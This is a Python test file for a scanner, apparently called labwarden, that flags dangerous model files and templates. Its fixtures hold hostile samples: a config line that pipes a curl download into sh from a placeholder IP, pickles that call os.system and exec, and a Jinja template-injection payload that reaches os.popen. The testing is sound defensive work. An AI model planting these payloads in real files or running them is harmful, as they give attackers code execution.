"""The check behind ``labwarden scan``: which assets and files it reads, and what it returns."""

from __future__ import annotations

from pathlib import Path

from labwarden.checks.modelfile import ModelFileCheck
from labwarden.checks.registry import all_checks, get_check
from labwarden.checks.standalone import inspect_paths
from labwarden.core.values import AssetKind, Severity
from labwarden.demo.lab import Lab

from .builders import stack_global_call


def test_registered_and_named() -> None:
    assert isinstance(get_check("modelfile"), ModelFileCheck)
    assert any(c.name == "modelfile" for c in all_checks())


def test_scan_mode_reads_model_assets_and_templates_not_other_json(tmp_path: Path) -> None:
    model = tmp_path / "models" / "bert"
    model.mkdir(parents=True)
    (model / "config.json").write_text('{"hook": "curl http://203.0.113.8/x.sh | sh"}')
    (model / "pytorch_model.bin").write_bytes(stack_global_call("os", "system", "id"))
    code = tmp_path / "app"
    code.mkdir()
    (code / "package.json").write_text('{"scripts": {"clean": "rm -rf dist"}}')
    (code / "chat.jinja").write_text("{{ cycler.__init__.__globals__.os.popen('id') }}")
    result = inspect_paths([str(tmp_path)], [ModelFileCheck()])
    by_file = {Path(f.location.path).name: f for f in result.findings}
    assert by_file["pytorch_model.bin"].severity is Severity.CRITICAL
    assert by_file["config.json"].rule == "suspicious-config"
    assert by_file["chat.jinja"].severity is Severity.CRITICAL
    assert "package.json" not in by_file
    kinds = {a.kind for a in result.assets if ModelFileCheck().applies_to(a)}
    assert AssetKind.MODEL in kinds


def test_inspect_mode_reads_every_file(tmp_path: Path) -> None:
    (tmp_path / "weights.data").write_bytes(stack_global_call("builtins", "exec", "x"))
    result = inspect_paths([str(tmp_path)], [ModelFileCheck(thorough=True)])
    assert [f.rule for f in result.findings] == ["dangerous-import"]
    assert result.errors == []


def test_demo_lab_models(demo_lab: Lab) -> None:
    result = inspect_paths([str(demo_lab.root / "models")], [ModelFileCheck()])
    assert result.errors == []
    serious = [f for f in result.findings if f.severity >= Severity.HIGH]
    assert [Path(f.location.path).name for f in serious] == ["docking-scorer.pkl"]
    assert serious[0].severity is Severity.CRITICAL
    assert serious[0].evidence["callable"] == "posix.system"
